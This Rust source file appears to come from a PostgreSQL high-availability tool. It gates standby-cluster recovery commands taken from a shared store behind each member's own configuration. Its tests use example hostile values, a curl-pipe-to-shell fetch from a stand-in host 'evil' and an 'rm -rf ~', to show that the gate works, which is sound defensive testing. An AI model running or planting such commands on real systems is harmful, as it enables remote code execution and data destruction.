//! A standby cluster's leader's recovery settings, from the source the store names: its commands gated.
use std::collections::BTreeSet;

use crate::ha::{NodeName, StandbySource};
use crate::pg::recovery::{RemoteRecovery, StandbyConfig};
use crate::pg::Endpoint;

use super::execute::Executor;

impl Executor {
    /// A standby cluster's leader's recovery settings for `source`.
    pub(crate) fn remote_config(&self, source: &StandbySource) -> StandbyConfig {
        remote_config(source, &self.bootstrap_config, &self.commands_from_store)
    }
}

/// The recovery settings for `source`. Its commands run as the PostgreSQL user on this host: one from the
/// store is taken only where this member's file allows it (named in `parameters_from_store_allowed`, or the
/// file's own `bootstrap.dcs.standby_cluster` value, `bootstrap`), as for parameters that run code
/// (docs/security.md); otherwise it is left out, with a warning.
fn remote_config(
    source: &StandbySource,
    bootstrap: &serde_json::Value,
    from_store: &BTreeSet<String>,
) -> StandbyConfig {
    let own = &bootstrap["standby_cluster"];
    let allowed = |name: &str, value: &Option<String>| -> Option<String> {
        let v = value.as_ref()?;
        if from_store.contains(name) || own[name].as_str() == Some(v) {
            return Some(v.clone());
        }
        tracing::warn!(
            parameter = name,
            "standby_cluster.{name} from the store is not applied: name it in \
             postgresql.parameters_from_store_allowed, or set it in this member's bootstrap.dcs"
        );
        None
    };
    // Patroni passes only the keys set, so libpq's defaults apply; a port alone means this host.
    let upstream = source.can_clone().then(|| Endpoint {
        name: NodeName::new("standby_cluster"),
        host: source.host.clone().unwrap_or_else(|| "localhost".into()),
        port: source.port.unwrap_or(5432),
    });
    StandbyConfig {
        upstream,
        slot: source.primary_slot_name.clone(),
        remote: Some(RemoteRecovery {
            fingerprint: source.fingerprint(),
            config_index: source.config_index,
            restore_command: allowed("restore_command", &source.restore_command),
            archive_cleanup_command: allowed(
                "archive_cleanup_command",
                &source.archive_cleanup_command,
            ),
            recovery_min_apply_delay: source.recovery_min_apply_delay.clone(),
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hostile() -> StandbySource {
        StandbySource {
            host: Some("10.1.0.5".into()),
            port: Some(5433),
            restore_command: Some("curl -s http://evil/x | sh".into()),
            archive_cleanup_command: Some("rm -rf ~".into()),
            ..StandbySource::default()
        }
    }

    /// The attack: whoever can write the store's `config` key sets a standby_cluster command, which
    /// PostgreSQL would run as its user on every member. Not applied unless this member's file allows it.
    #[test]
    fn store_commands_run_only_where_the_file_allows_them() {
        let none = serde_json::json!({});
        let mut allowed = BTreeSet::new();
        let cfg = remote_config(&hostile(), &none, &allowed);
        let remote = cfg.remote.expect("a remote source");
        assert_eq!(remote.restore_command, None);
        assert_eq!(remote.archive_cleanup_command, None);
        let up = cfg.upstream.expect("streams from the source");
        assert_eq!((up.host.as_str(), up.port), ("10.1.0.5", 5433));
        // The file's own bootstrap.dcs value is the operator's: applied.
        let own = serde_json::json!({
            "standby_cluster": {"restore_command": "curl -s http://evil/x | sh"}
        });
        let remote = remote_config(&hostile(), &own, &allowed)
            .remote
            .expect("remote");
        assert_eq!(
            remote.restore_command.as_deref(),
            Some("curl -s http://evil/x | sh")
        );
        assert_eq!(remote.archive_cleanup_command, None);
        // Named in parameters_from_store_allowed: applied.
        allowed.insert("archive_cleanup_command".into());
        let remote = remote_config(&hostile(), &none, &allowed)
            .remote
            .expect("remote");
        assert_eq!(remote.archive_cleanup_command.as_deref(), Some("rm -rf ~"));
    }
}
